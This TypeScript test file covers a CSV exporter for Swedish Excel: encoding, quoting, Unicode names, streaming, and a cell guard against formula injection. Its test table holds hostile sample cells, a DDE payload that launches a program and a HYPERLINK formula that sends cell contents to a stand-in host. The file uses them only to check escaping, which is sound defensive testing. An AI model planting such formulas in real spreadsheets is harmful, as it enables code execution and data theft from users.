import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { guardTextCell, stripControlCharacters } from './cell-guard.ts';
import { csvBuffer, writeCsv } from './csv.ts';

interface Row {
  name: string;
  note: string | number | null;
}
const columns = [
  { header: 'Namn', value: (row: Row) => row.name },
  { header: 'Anteckning', value: (row: Row) => row.note },
];

/** Reads the CSV back the way a spreadsheet program would: semicolons, quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text.charAt(i);
    if (quoted && char === '"' && text.charAt(i + 1) === '"') {
      cell += '"';
      i++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ';') {
      record.push(cell);
      cell = '';
    } else if (!quoted && char === '\r' && text.charAt(i + 1) === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i++;
    } else {
      cell += char;
    }
  }
  return records;
}

async function cellsOf(rows: Row[]): Promise<string[][]> {
  const buffer = await csvBuffer(rows, columns);
  return parseCsv(buffer.toString('utf8').replace(/^\uFEFF/, ''));
}

describe('CSV for Swedish Excel', () => {
  it('starts with a UTF-8 byte order mark, separates with semicolons and ends records with CRLF', async () => {
    const buffer = await csvBuffer([{ name: 'Åsa Öberg', note: 'ä' }], columns);
    expect([...buffer.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(buffer.subarray(3).toString('utf8')).toBe('Namn;Anteckning\r\nÅsa Öberg;ä\r\n');
  });

  it.each([
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['=HYPERLINK("http://x.example/?"&A1;"klicka")', '\'=HYPERLINK("http://x.example/?"&A1;"klicka")'],
    ['\u0000=1+1', "'=1+1"],
    ['\u001b=1', "'=1"],
  ])('escapes the hostile cell %j so it stays text', async (hostile, expected) => {
    const [, row] = await cellsOf([{ name: hostile, note: null }]);
    expect(row).toEqual([expected, '']);
  });

  it('keeps a formula character that is not first, and a negative number, as they are', async () => {
    const [, row] = await cellsOf([{ name: 'Anna-Karin = 1', note: -1 }]);
    expect(row).toEqual(['Anna-Karin = 1', '-1']);
  });

  it('quotes semicolons, quotes and line breaks inside a cell so they survive the round trip', async () => {
    const note = 'Sa: "vi ses; imorgon"\nrad två\r\nrad tre';
    const [, row] = await cellsOf([{ name: 'a;b', note }]);
    expect(row).toEqual(['a;b', note]);
  });

  it('writes Swedish letters and names from abroad unchanged', async () => {
    const names = ['Åsa Öberg', 'Nguyễn Thị Minh', 'Jānis Bērziņš', 'Łukasz Żółć', 'Ольга Смирнова', 'محمد الأحمد', 'Zoë Ða-Ñúñez'];
    const records = await cellsOf(names.map((name) => ({ name, note: 'å ä ö Å Ä Ö' })));
    expect(records.slice(1).map(([name]) => name)).toEqual(names);
  });

  it('strips control characters but keeps tab and line breaks inside a cell', async () => {
    const [, row] = await cellsOf([{ name: 'A\u0000n\u0007n\u007fa\u0085', note: 'x\ty\nz' }]);
    expect(row).toEqual(['Anna', 'x\ty\nz']);
  });

  it('streams rows from an async source into a writable', async () => {
    async function* rows(): AsyncGenerator<Row> {
      for (let i = 0; i < 1000; i++) yield { name: `Person ${i}`, note: i };
    }
    let text = '';
    const sink = new Writable({
      write(chunk: Buffer, _encoding, done) {
        text += chunk.toString('utf8');
        done();
      },
    });
    await writeCsv(rows(), columns, sink);
    const records = parseCsv(text.replace(/^\uFEFF/, ''));
    expect(records).toHaveLength(1001);
    expect(records[1000]).toEqual(['Person 999', '999']);
  });
});

describe('the cell guard shared by the exports', () => {
  it('strips C0 (but tab, LF, CR), DEL and C1 controls', () => {
    expect(stripControlCharacters('a\u0001\u0008\t\n\r\u000b\u000c\u001f\u007f\u0080\u009fb')).toBe('a\t\n\rb');
  });

  it('neutralises formulas after stripping controls', () => {
    expect(guardTextCell('\u0000\u0000+46 70')).toBe("'+46 70");
    expect(guardTextCell('46 70')).toBe('46 70');
  });
});
